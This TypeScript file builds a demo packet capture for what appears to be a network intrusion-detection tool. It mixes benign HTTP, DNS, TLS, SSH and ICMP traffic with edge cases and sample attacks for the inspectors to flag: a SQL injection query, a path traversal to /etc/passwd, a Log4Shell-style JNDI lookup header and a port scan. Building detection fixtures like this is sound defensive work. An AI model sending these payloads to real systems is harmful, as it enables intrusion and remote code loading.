// The demo capture shipped in samples/: a small, deterministic mix of benign
// traffic, attacks the bundled inspectors should flag, and the awkward cases
// (VLANs, fragments, reordering, a malformed frame) the engine must survive.
// Addresses stay in 198.18.0.0/15 and 2001:db8::/32.
import { makeDirs } from '../fs/make-dirs.js';
import { join } from 'node:path';
import { buildPacket, fragmentIp, type PacketSpec } from '../packet/build.js';
import { LinkType, TcpFlag } from '../packet/types.js';
import type { RawFrame } from './types.js';
import { PcapWriter, PcapngWriter } from './writer.js';

/** 2026-01-01T00:00:00Z */
export const DEMO_START_SEC = 1767225600;

const CLIENT_MAC = '02:00:5e:00:00:01';
const SERVER_MAC = '02:00:5e:00:00:02';
const { SYN, ACK, PSH, FIN, RST } = TcpFlag;

/** Microsecond steps, so the classic µs pcap holds the exact same timestamps. */
class Clock {
  private us = 0;
  constructor(private readonly frames: RawFrame[]) {}
  advance(us: number): void { this.us += us; }
  emit(data: Uint8Array, wireLen = data.length): void {
    const sec = DEMO_START_SEC + Math.floor(this.us / 1e6);
    const tsNsec = (this.us % 1e6) * 1000;
    this.frames.push({ data, linkType: LinkType.ETHERNET, wireLen, tsSec: sec, tsNsec, iface: 0 });
    this.us += 150;
  }
}

interface Endpoints {
  client: string;
  server: string;
  clientPort: number;
  serverPort: number;
  vlans?: number[];
}

/** One TCP connection; tracks both sequence numbers so every segment is consistent. */
class TcpSession {
  private cseq: number;
  private sseq: number;
  constructor(private readonly clock: Clock, private readonly ep: Endpoints, isn: number) {
    this.cseq = isn;
    this.sseq = (isn * 7 + 0x1000) >>> 0;
  }

  private spec(fromClient: boolean, flags: number, seq: number, ack: number, payload?: Uint8Array | string): PacketSpec {
    const e = this.ep;
    const s: PacketSpec = {
      src: fromClient ? e.client : e.server, dst: fromClient ? e.server : e.client, proto: 'tcp',
      srcPort: fromClient ? e.clientPort : e.serverPort, dstPort: fromClient ? e.serverPort : e.clientPort,
      tcpFlags: flags, seq: seq >>> 0, ack: ack >>> 0, window: fromClient ? 64240 : 65160,
      srcMac: fromClient ? CLIENT_MAC : SERVER_MAC, dstMac: fromClient ? SERVER_MAC : CLIENT_MAC,
      ttl: fromClient ? 64 : 63,
    };
    if (payload !== undefined) s.payload = payload;
    if (e.vlans) s.vlans = e.vlans;
    return s;
  }

  handshake(): this {
    this.clock.emit(buildPacket(this.spec(true, SYN, this.cseq, 0)));
    this.cseq++;
    this.clock.emit(buildPacket(this.spec(false, SYN | ACK, this.sseq, this.cseq)));
    this.sseq++;
    this.clock.emit(buildPacket(this.spec(true, ACK, this.cseq, this.sseq)));
    return this;
  }

  /** Data from one side, acknowledged by the other. */
  send(fromClient: boolean, text: string | Uint8Array): this {
    const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
    const seq = fromClient ? this.cseq : this.sseq;
    const ack = fromClient ? this.sseq : this.cseq;
    this.clock.emit(buildPacket(this.spec(fromClient, ACK | PSH, seq, ack, bytes)));
    if (fromClient) this.cseq += bytes.length; else this.sseq += bytes.length;
    this.clock.emit(buildPacket(this.spec(!fromClient, ACK, fromClient ? this.sseq : this.cseq, fromClient ? this.cseq : this.sseq)));
    return this;
  }

  /** A client request cut in two: the second half arrives first, then the first half, then a retransmission of it. */
  sendSplitReordered(text: string, cut: number): this {
    const bytes = new TextEncoder().encode(text);
    const first = bytes.subarray(0, cut);
    const second = bytes.subarray(cut);
    const seq = this.cseq;
    this.clock.emit(buildPacket(this.spec(true, ACK | PSH, seq + first.length, this.sseq, second)));
    this.clock.emit(buildPacket(this.spec(true, ACK, seq, this.sseq, first)));
    this.clock.emit(buildPacket(this.spec(true, ACK, seq, this.sseq, first)));
    this.cseq += bytes.length;
    this.clock.emit(buildPacket(this.spec(false, ACK, this.sseq, this.cseq)));
    return this;
  }

  close(): void {
    this.clock.emit(buildPacket(this.spec(true, FIN | ACK, this.cseq, this.sseq)));
    this.cseq++;
    this.clock.emit(buildPacket(this.spec(false, FIN | ACK, this.sseq, this.cseq)));
    this.sseq++;
    this.clock.emit(buildPacket(this.spec(true, ACK, this.cseq, this.sseq)));
  }
}

function httpGet(host: string, target: string, extraHeaders = ''): string {
  return `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n${extraHeaders}\r\n`;
}

function httpResponse(status: string, body: string): string {
  return `HTTP/1.1 ${status}\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
}

// ---- DNS ------------------------------------------------------------------

function dnsName(name: string): number[] {
  const out: number[] = [];
  for (const label of name.split('.')) {
    out.push(label.length, ...new TextEncoder().encode(label));
  }
  out.push(0);
  return out;
}

function dnsMessage(id: number, name: string, qtype: number, answer: Uint8Array | null): Uint8Array {
  const header = [id >> 8, id & 0xff, answer ? 0x81 : 0x01, answer ? 0x80 : 0x00, 0, 1, 0, answer ? 1 : 0, 0, 0, 0, 0];
  const question = [...dnsName(name), 0, qtype, 0, 1];
  const rr = answer
    ? [0xc0, 12, 0, qtype, 0, 1, 0, 0, 0x0e, 0x10, answer.length >> 8, answer.length & 0xff, ...answer]
    : [];
  return Uint8Array.from([...header, ...question, ...rr]);
}

// ---- TLS ------------------------------------------------------------------

function u16be(v: number): number[] { return [(v >> 8) & 0xff, v & 0xff]; }
function withLen16(body: number[]): number[] { return [...u16be(body.length), ...body]; }
function ext(type: number, body: number[]): number[] { return [...u16be(type), ...withLen16(body)]; }
function pattern(n: number, seed: number): number[] {
  return Array.from({ length: n }, (_, i) => (seed + i * 37) & 0xff);
}

/** A TLS 1.3 ClientHello as browsers send it: SNI, groups, signature algorithms, ALPN, versions, key share. */
export function tlsClientHello(sni: string): Uint8Array {
  const host = [...new TextEncoder().encode(sni)];
  const extensions = [
    ...ext(0, withLen16([0, ...withLen16(host)])),
    ...ext(10, withLen16([0x00, 0x1d, 0x00, 0x17, 0x00, 0x18])),
    ...ext(13, withLen16([0x04, 0x03, 0x08, 0x04, 0x04, 0x01, 0x05, 0x03, 0x08, 0x05, 0x05, 0x01])),
    ...ext(16, withLen16([2, ...new TextEncoder().encode('h2'), 8, ...new TextEncoder().encode('http/1.1')])),
    ...ext(43, [4, 0x03, 0x04, 0x03, 0x03]),
    ...ext(51, withLen16([0x00, 0x1d, ...withLen16(pattern(32, 0x51))])),
  ];
  const hello = [
    0x03, 0x03, ...pattern(32, 0x11),
    32, ...pattern(32, 0x22),
    ...withLen16([0x13, 0x01, 0x13, 0x02, 0x13, 0x03, 0xc0, 0x2b, 0xc0, 0x2f, 0xc0, 0x2c, 0xc0, 0x30]),
    1, 0,
    ...withLen16(extensions),
  ];
  const handshake = [1, (hello.length >> 16) & 0xff, ...u16be(hello.length), ...hello];
  return Uint8Array.from([0x16, 0x03, 0x01, ...withLen16(handshake)]);
}

// ---- the capture ------------------------------------------------------------

const SCAN_PORTS = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900, 8080];

/** The demo capture: deterministic bytes and timestamps, starting 2026-01-01T00:00:00Z. */
export function makeDemoCapture(): RawFrame[] {
  const frames: RawFrame[] = [];
  const clock = new Clock(frames);
  const web = '198.18.0.10';
  const gap = (): void => clock.advance(50_000);
  // A fresh connection carrying one request and its response, then closed.
  const httpExchange = (ep: Endpoints, isn: number, request: string, response: string): void => {
    new TcpSession(clock, ep, isn).handshake().send(true, request).send(false, response).close();
  };

  httpExchange({ client: '198.18.0.1', server: web, clientPort: 41000, serverPort: 80 }, 1000,
    httpGet('shop.example', '/index.html'), httpResponse('200 OK', '<html><body>welcome</body></html>'));
  gap();
  httpExchange({ client: '198.18.0.2', server: web, clientPort: 41001, serverPort: 80 }, 2000,
    httpGet('shop.example', "/search?q=1' OR '1'='1' --"), httpResponse('400 Bad Request', 'bad request'));
  gap();
  httpExchange({ client: '198.18.0.3', server: web, clientPort: 41002, serverPort: 80 }, 3000,
    httpGet('shop.example', '/static/../../etc/passwd'), httpResponse('404 Not Found', 'not found'));
  gap();
  httpExchange({ client: '198.18.0.4', server: web, clientPort: 41003, serverPort: 80 }, 4000,
    httpGet('shop.example', '/login', 'X-Api-Version: ${jndi:ldap://198.18.9.9/a}\r\n'), httpResponse('200 OK', 'ok'));
  gap();
  const split = httpGet('shop.example', '/account?id=42', 'Cookie: session=demo\r\n');
  new TcpSession(clock, { client: '198.18.0.5', server: web, clientPort: 41004, serverPort: 80 }, 5000)
    .handshake()
    .sendSplitReordered(split, 20)
    .send(false, httpResponse('200 OK', 'account'))
    .close();
  gap();

  const dns = (client: string, server: string, port: number, id: number, name: string, qtype: number, rdata: Uint8Array): void => {
    clock.emit(buildPacket({ src: client, dst: server, proto: 'udp', srcPort: port, dstPort: 53, payload: dnsMessage(id, name, qtype, null), srcMac: CLIENT_MAC, dstMac: SERVER_MAC }));
    clock.emit(buildPacket({ src: server, dst: client, proto: 'udp', srcPort: 53, dstPort: port, payload: dnsMessage(id, name, qtype, rdata), srcMac: SERVER_MAC, dstMac: CLIENT_MAC }));
  };
  dns('198.18.0.1', '198.18.0.53', 53001, 0x1a01, 'shop.example', 1, Uint8Array.of(198, 18, 0, 10));
  dns('198.18.0.1', '198.18.0.53', 53002, 0x1a02, 'shop.example', 28, Uint8Array.of(0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10));
  dns('198.18.0.2', '198.18.0.53', 53003, 0x1a03, 'api.example.net', 1, Uint8Array.of(198, 18, 1, 20));
  dns('2001:db8::1', '2001:db8::53', 53004, 0x1a04, 'mail.example.org', 28, Uint8Array.of(0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x25));
  gap();

  new TcpSession(clock, { client: '198.18.0.6', server: '198.18.0.20', clientPort: 41005, serverPort: 443 }, 6000)
    .handshake()
    .send(true, tlsClientHello('secure.example.com'))
    .close();
  gap();
  new TcpSession(clock, { client: '198.18.0.7', server: '198.18.0.22', clientPort: 41006, serverPort: 22 }, 7000)
    .handshake()
    .send(false, 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n')
    .send(true, 'SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n')
    .close();
  gap();

  clock.emit(buildPacket({ src: '198.18.0.1', dst: web, proto: 'icmp', icmpType: 8, ipId: 0x77, payload: 'secuxflow-ping-0001', srcMac: CLIENT_MAC, dstMac: SERVER_MAC }));
  clock.emit(buildPacket({ src: web, dst: '198.18.0.1', proto: 'icmp', icmpType: 0, ipId: 0x77, payload: 'secuxflow-ping-0001', srcMac: SERVER_MAC, dstMac: CLIENT_MAC }));
  clock.emit(buildPacket({ src: '2001:db8::1', dst: '2001:db8::10', proto: 'icmp', icmpType: 128, ipId: 0x78, payload: 'secuxflow-ping6', srcMac: CLIENT_MAC, dstMac: SERVER_MAC }));
  clock.emit(buildPacket({ src: '2001:db8::10', dst: '2001:db8::1', proto: 'icmp', icmpType: 129, ipId: 0x78, payload: 'secuxflow-ping6', srcMac: SERVER_MAC, dstMac: CLIENT_MAC }));
  gap();

  httpExchange({ client: '2001:db8::1', server: '2001:db8::10', clientPort: 41007, serverPort: 80 }, 8000,
    httpGet('v6.example', '/'), httpResponse('200 OK', 'hello over IPv6'));
  gap();
  httpExchange({ client: '198.18.0.8', server: web, clientPort: 41008, serverPort: 80, vlans: [100] }, 9000,
    httpGet('vlan.example', '/tagged'), httpResponse('200 OK', 'vlan 100'));
  gap();
  httpExchange({ client: '198.18.0.9', server: web, clientPort: 41009, serverPort: 80, vlans: [200, 300] }, 10000,
    httpGet('qinq.example', '/double-tagged'), httpResponse('200 OK', 'qinq 200/300'));
  gap();

  const bigUdp = buildPacket({ src: '198.18.0.11', dst: '198.18.0.12', proto: 'udp', srcPort: 5000, dstPort: 5001, ipId: 0x4242, payload: 'F'.repeat(2400), srcMac: CLIENT_MAC, dstMac: SERVER_MAC });
  for (const f of fragmentIp(bigUdp, 1000)) clock.emit(f);
  const bigUdp6 = buildPacket({ src: '2001:db8::11', dst: '2001:db8::12', proto: 'udp', srcPort: 5002, dstPort: 5003, payload: 'G'.repeat(2000), srcMac: CLIENT_MAC, dstMac: SERVER_MAC });
  for (const f of fragmentIp(bigUdp6, 1232, 0x0000beef)) clock.emit(f);
  gap();

  const scanner = '198.18.0.66';
  for (let i = 0; i < SCAN_PORTS.length; i++) {
    const port = SCAN_PORTS[i]!;
    const sport = 60000 + i;
    clock.emit(buildPacket({ src: scanner, dst: web, proto: 'tcp', srcPort: sport, dstPort: port, tcpFlags: SYN, seq: 0x5ca00000 + i, window: 1024, srcMac: CLIENT_MAC, dstMac: SERVER_MAC }));
    clock.emit(buildPacket({ src: web, dst: scanner, proto: 'tcp', srcPort: port, dstPort: sport, tcpFlags: RST | ACK, seq: 0, ack: 0x5ca00001 + i, window: 0, srcMac: SERVER_MAC, dstMac: CLIENT_MAC }));
  }
  gap();

  // Cut inside the TCP header, and the record claims no more was on the wire:
  // a genuinely malformed frame rather than a snaplen-limited one.
  const whole = buildPacket({ src: '198.18.0.13', dst: web, proto: 'tcp', srcPort: 41010, dstPort: 80, payload: 'truncated', srcMac: CLIENT_MAC, dstMac: SERVER_MAC });
  clock.emit(whole.slice(0, 14 + 20 + 6));
  return frames;
}

/** Writes demo.pcap (classic, microseconds) and demo.pcapng (EPB) into dir; returns their paths. */
export function writeSamples(dir: string): { pcap: string; pcapng: string; frames: number } {
  makeDirs(dir, { what: 'the sample capture directory', instead: 'give another directory' });
  const frames = makeDemoCapture();
  const pcap = join(dir, 'demo.pcap');
  const pcapng = join(dir, 'demo.pcapng');
  const w = new PcapWriter({ path: pcap });
  const n = new PcapngWriter({ path: pcapng, interfaces: [{ linkType: LinkType.ETHERNET, name: 'demo0' }] });
  try {
    for (const f of frames) { w.write(f); n.write(f); }
  } finally {
    w.close();
    n.close();
  }
  return { pcap, pcapng, frames: frames.length };
}
